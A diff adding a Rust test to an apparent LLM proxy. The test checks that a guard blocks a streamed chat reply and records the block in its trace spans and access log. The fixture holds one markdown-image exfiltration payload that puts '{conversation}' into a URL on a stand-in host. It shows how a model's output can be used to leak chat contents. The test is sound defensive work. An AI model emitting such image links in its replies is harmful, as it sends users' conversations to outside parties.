@@ -255,6 +255,28 @@ async fn a_stream_that_breaks_says_so_in_both_spans() {
 }
 
 #[tokio::test]
+async fn a_stream_that_the_guard_blocks_is_recorded_as_blocked() {
+    let leak = "see ![x](https://example.org/p.png?q={conversation}) there";
+    let scene = Scene::streaming(&[json!({"content": "tide"}), json!({"content": leak})]);
+    let stage = Stage::open(vec![scene]).await;
+    let collector = Collector::open().await;
+    let config = format!("log.access = true\n{}", config(stage.addr, &["up/x"]));
+    let program = traced(&config, &collector.endpoint(), &[]).await;
+    let reply = ask(program.addr, &post("/v1/chat/completions", &stream("m"))).await;
+    assert_eq!(reply.status, 200);
+    let (request, calls) = split(collector.until(2).await);
+    check(&request, "tidegate.ending", "broken");
+    check(&request, "error.type", "blocked_by_guard");
+    check(&request, "tidegate.verdict", "block");
+    // The upstream has done nothing wrong.
+    check(&calls[0], "error.type", "abandoned");
+    until_said(&program, "blocked_by_guard").await;
+    let said = program.said();
+    let line = said.lines().find(|line| line.contains("blocked_by_guard"));
+    assert!(line.unwrap().contains("/v1/chat/completions"), "{said}");
+}
+
+#[tokio::test]
 async fn a_client_that_hangs_up_is_recorded() {
     let stage = Stage::open(vec![Scene::events_without_end(PIECE)]).await;
     let collector = Collector::open().await;
